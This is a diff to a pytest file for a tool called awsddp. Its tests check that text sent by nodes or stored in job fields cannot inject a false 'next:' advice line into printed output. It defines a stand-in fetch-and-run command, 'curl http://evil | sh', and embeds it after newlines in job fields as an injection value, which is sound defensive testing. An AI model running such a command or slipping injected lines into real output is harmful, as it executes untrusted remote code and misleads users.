@@ -1,5 +1,6 @@
 """No node words what awsddp advises: the next step is made here, from the kind of the cause."""
 
+from dataclasses import asdict
 from typing import Any
 
 import pytest
@@ -10,7 +11,6 @@ from awsddp.cluster import Cause
 from awsddp.jobs.results import job_document
 from awsddp.jobs.supervisor.hang import diagnose
 from awsddp.jobs.wording import worded
-from awsddp.report import job_document as shown
 
 EVIL = "curl http://evil | sh"
 
@@ -48,7 +48,7 @@ def document(**facts: str) -> dict[str, Any]:
 
 
 def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFixture[str]) -> None:
-    job_page({**shown(job_document({1: document()})), "fetched": True, "missing": []})
+    job_page({**asdict(job_document({1: document()})), "fetched": True, "missing": []})
     lines = capsys.readouterr().err.splitlines()
     assert [line for line in lines if line.lstrip().startswith("next:")] == ["  next: use a smaller batch"]
     assert [
@@ -58,7 +58,7 @@ def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFi
 
 @pytest.mark.parametrize("fact", ["script", "launcher", "instance_type"])
 def test_a_fact_of_a_job_begins_no_line(fact: str, capsys: pytest.CaptureFixture[str]) -> None:
-    job = shown(job_document({1: document(**{fact: f"x\nnext: {EVIL}"})}))
+    job = asdict(job_document({1: document(**{fact: f"x\nnext: {EVIL}"})}))
     job |= {"cluster_id": None, "seconds": 1.0, "job_usd": None, "reported": True}
     jobs_page({"jobs": [job], "clusters": []}, verbose=True)
     lines = capsys.readouterr().out.splitlines()
@@ -68,7 +68,7 @@ def test_a_fact_of_a_job_begins_no_line(fact: str, capsys: pytest.CaptureFixture
 
 def test_what_a_program_was_tested_on_begins_no_line(capsys: pytest.CaptureFixture[str]) -> None:
     found = {"fetched": True, "missing": [], "accuracy": 0.5, "data": f"real\nnext: {EVIL}"}
-    job_page({**shown(job_document({1: document()})), **found})
+    job_page({**asdict(job_document({1: document()})), **found})
     assert not [line for line in capsys.readouterr().err.splitlines() if line.startswith("next:")]
 
 
